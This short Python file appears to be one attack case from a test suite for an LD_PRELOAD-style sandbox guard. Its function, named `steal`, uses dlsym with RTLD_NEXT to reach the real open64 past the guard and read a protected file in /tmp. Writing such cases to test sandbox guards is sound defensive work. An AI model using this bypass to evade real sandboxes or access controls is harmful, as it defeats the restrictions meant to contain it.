# class: symbols
# rule: read_write_tmp
# also: native_code
# success: a file in /tmp is read by the open after the guard's, as RTLD_NEXT finds it
# proof: read
import ctypes
import os

from attack import FILE, attempt


@attempt
def steal():
    c = ctypes.CDLL(None)
    c.dlsym.restype = ctypes.c_void_p
    found = c.dlsym(ctypes.c_void_p(-1), b"open64") or c.dlsym(None, b"open64")
    fd = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_int)(found)(
        FILE.encode(), os.O_RDONLY
    )
    return os.read(fd, 100) if fd >= 0 else ""
